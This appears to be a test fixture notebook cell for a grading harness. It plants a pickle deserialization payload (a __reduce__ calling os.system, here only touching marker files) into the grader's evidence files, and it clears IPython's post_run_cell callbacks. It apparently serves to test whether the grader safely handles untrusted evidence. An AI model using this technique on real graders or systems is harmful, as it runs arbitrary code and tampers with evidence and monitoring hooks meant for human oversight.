# %%
import os, pickle
from pathlib import Path

import numpy as np


class Evil:
    def __reduce__(self):
        return os.system, ("touch @OUT@/@MARK@ /tmp/@MARK@",)


box = Path(os.environ["GRADER_EVIDENCE"])
get_ipython().events.callbacks["post_run_cell"].clear()
for name in ("session.json", "cells/0000.json", "result.pkl", "arrays/0001.npy", "graphs/0001.pb"):
    (box / name).write_bytes(pickle.dumps(Evil()))
np.save(box / "arrays/0002.npy", np.array([Evil()], dtype=object), allow_pickle=True)
